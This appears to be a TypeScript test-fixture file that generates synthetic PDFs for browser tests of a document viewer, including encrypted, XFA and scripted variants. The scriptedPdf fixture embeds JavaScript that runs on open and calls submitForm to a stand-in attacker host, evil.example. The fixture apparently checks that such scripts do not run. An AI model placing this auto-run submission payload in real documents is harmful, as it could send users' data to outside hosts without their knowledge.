import { createHash } from 'node:crypto';
import type { Page } from '@playwright/test';

type PdfOptions = {
  /** Red, green, blue from 0 to 1. */
  pages: readonly (readonly [red: number, green: number, blue: number])[];
  /** Raw entries. */
  catalog?: string;
  trailer?: string;
  /** One line per page, in a font that isn't embedded. */
  text?: string;
  lastObject?: string;
  encrypt?: (objectId: number, content: string) => string;
};

/** A5 pages. */
export const makePdf = ({
  pages,
  catalog = '',
  trailer = '',
  text = '',
  lastObject,
  encrypt = (_id, content) => content,
}: PdfOptions): Buffer => {
  const objects: string[] = [];
  const add = (content: string): number => objects.push(content);
  const pagesId = 2;
  add(`<</Type/Catalog/Pages ${pagesId} 0 R ${catalog}>>`);
  add('');
  const font = add('<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>');
  const kids = pages.map(([red, green, blue]) => {
    const words = text === '' ? '' : `0 g BT /F1 40 Tf 40 300 Td (${text}) Tj ET`;
    const drawing = `${red} ${green} ${blue} rg 0 0 420 595 re f ${words}`;
    const stream = encrypt(objects.length + 1, drawing);
    const content = add(`<</Length ${stream.length}>>\nstream\n${stream}\nendstream`);
    return add(
      `<</Type/Page/Parent ${pagesId} 0 R/MediaBox[0 0 420 595]/Contents ${content} 0 R/Resources<</Font<</F1 ${font} 0 R>>>>>>`,
    );
  });
  objects[pagesId - 1] =
    `<</Type/Pages/Count ${kids.length}/Kids[${kids.map((id) => `${id} 0 R`).join(' ')}]>>`;

  if (lastObject !== undefined) add(lastObject);

  let file = '%PDF-1.7\n';
  const places = objects.map((content, index) => {
    const at = file.length;
    file += `${index + 1} 0 obj\n${content}\nendobj\n`;
    return at;
  });
  const table = file.length;
  const rows = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  file += `trailer\n<</Size ${objects.length + 1}/Root 1 0 R ${trailer}>>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
};

export const red = [1, 0, 0] as const;
export const blue = [0, 0, 1] as const;

export const pdf = makePdf({ pages: [red] });

export const lockedPdf = (): Buffer => {
  const key = 'ab'.repeat(32);
  const encryption = `<</Filter/Standard/V 1/R 2/O<${key}>/U<${key}>/P -4>>`;
  return makePdf({ pages: [red], trailer: `/Encrypt ${encryption}/ID[<00><00>]` });
};

const rc4 = (key: Buffer, data: Buffer): Buffer => {
  const state = Array.from({ length: 256 }, (_, index) => index);
  const swap = (a: number, b: number): void => {
    [state[a], state[b]] = [state[b] ?? 0, state[a] ?? 0];
  };
  for (let a = 0, b = 0; a < 256; a += 1) {
    b = (b + (state[a] ?? 0) + (key[a % key.length] ?? 0)) % 256;
    swap(a, b);
  }
  let [a, b] = [0, 0];
  return data.map((byte) => {
    a = (a + 1) % 256;
    b = (b + (state[a] ?? 0)) % 256;
    swap(a, b);
    return byte ^ (state[((state[a] ?? 0) + (state[b] ?? 0)) % 256] ?? 0);
  }) as Buffer;
};

/** Anyone may open it; only its restrictions have a password (ISO 32000-1, 7.6.3, revision 2). */
export const ownerLockedPdf = (): Buffer => {
  const padding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
  const owner = Buffer.alloc(32, 0xab);
  const permissions = Buffer.from([0xfc, 0xff, 0xff, 0xff]);
  const key = createHash('md5')
    .update(Buffer.concat([padding, owner, permissions, Buffer.from([0])]))
    .digest()
    .subarray(0, 5);
  const user = rc4(key, padding).toString('hex');
  const encryption = `<</Filter/Standard/V 1/R 2/O<${owner.toString('hex')}>/U<${user}>/P -4>>`;
  const encrypt = (id: number, content: string): string => {
    const keyOfObject = createHash('md5').update(Buffer.concat([key, Buffer.from([id, 0, 0, 0, 0])]));
    return rc4(keyOfObject.digest().subarray(0, 10), Buffer.from(content, 'latin1')).toString('latin1');
  };
  return makePdf({ pages: [blue], trailer: `/Encrypt ${encryption}/ID[<00><00>]`, encrypt });
};

/** Asks for Acrobat on its only page. */
export const xfaPdf = (): Buffer => {
  const form = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>';
  return makePdf({
    pages: [red],
    catalog: '/AcroForm<</Fields[]/XFA 6 0 R>>/NeedsRendering true',
    lastObject: `<</Length ${form.length}>>\nstream\n${form}\nendstream`,
  });
};

/** Runs a script and follows a link when opened. */
export const scriptedPdf = (): Buffer =>
  makePdf({
    pages: [red],
    catalog:
      '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); window.wasHere = true; this.submitForm\\("https://evil.example"\\))>>' +
      '/AA<</WC<</S/JavaScript/JS(app.alert\\(2\\))>>>>',
  });

/** The drawn page of an item. */
export const pictureOf = (page: Page, name: string) =>
  page.getByRole('img', { name }).evaluate((image: HTMLImageElement) => {
    const canvas = document.createElement('canvas');
    [canvas.width, canvas.height] = [image.naturalWidth, image.naturalHeight];
    const context = canvas.getContext('2d');
    context?.drawImage(image, 0, 0);
    const pixel = context?.getImageData(canvas.width / 2, 10, 1, 1).data ?? [];
    return { pixel: [...pixel].slice(0, 3), width: canvas.width, height: canvas.height };
  });
